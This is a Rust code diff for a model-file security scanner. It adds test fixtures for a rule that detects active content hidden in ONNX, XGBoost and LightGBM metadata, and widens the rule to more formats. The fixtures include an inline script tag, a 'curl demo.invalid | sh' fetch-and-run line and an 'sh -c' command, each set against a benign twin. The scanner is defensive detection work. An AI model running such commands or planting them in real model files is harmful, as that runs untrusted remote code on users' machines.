@@ -4,7 +4,8 @@ use weighbridge_domain::{Confidence, Severity};
 
 use crate::facts::Facts;
 use crate::rules::{Check, Example, Findings, Light, Rule};
-use crate::samples::{File, one, tensor};
+use crate::samples::graph::Onnx;
+use crate::samples::{File, boosting, one, tensor};
 use crate::text;
 
 /// Metadata that would act where it is shown or used.
@@ -76,6 +77,64 @@ pub static RULE: Rule = Rule {
             },
             fires: &[],
         },
+        Example {
+            name: "onnx",
+            files: || {
+                Onnx::new().node("", "Relu").property("description", "a <script>void 0</script> b").files()
+            },
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "onnx-twin",
+            files: || Onnx::new().node("", "Relu").property("description", "a b, written in Script").files(),
+            fires: &[],
+        },
+        Example {
+            name: "xgboost-attribute",
+            files: || {
+                one(
+                    "model.json",
+                    boosting::Xgboost::new()
+                        .set("/learner/attributes/note", serde_json::json!("curl demo.invalid | sh"))
+                        .json(),
+                )
+            },
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "xgboost-attribute-twin",
+            files: || {
+                one(
+                    "model.json",
+                    boosting::Xgboost::new()
+                        .set("/learner/attributes/note", serde_json::json!("trained on curls"))
+                        .json(),
+                )
+            },
+            fires: &[],
+        },
+        Example {
+            name: "lightgbm-parameter",
+            files: || {
+                one(
+                    "model.txt",
+                    boosting::LightGbm::new()
+                        .parameter("convert_model", "sh -c 'echo weighbridge-demo'")
+                        .build(),
+                )
+            },
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "lightgbm-parameter-twin",
+            files: || {
+                one(
+                    "model.txt",
+                    boosting::LightGbm::new().parameter("convert_model", "gbdt_prediction.cpp").build(),
+                )
+            },
+            fires: &[],
+        },
     ],
     check: Check::File(check),
 };
@@ -94,7 +153,11 @@ fn encoded(length: usize) -> String {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     for (place, key, value) in facts.metadata() {
-        if !matches!(place.format(), "safetensors" | "gguf") || key.starts_with("tokenizer.") {
+        if !matches!(
+            place.format(),
+            "catboost" | "coreml" | "gguf" | "lightgbm" | "onnx" | "safetensors" | "xgboost"
+        ) || key.starts_with("tokenizer.")
+        {
             continue;
         }
         for what in [markup(value), command(value), path(key, value), code(value)].into_iter().flatten() {
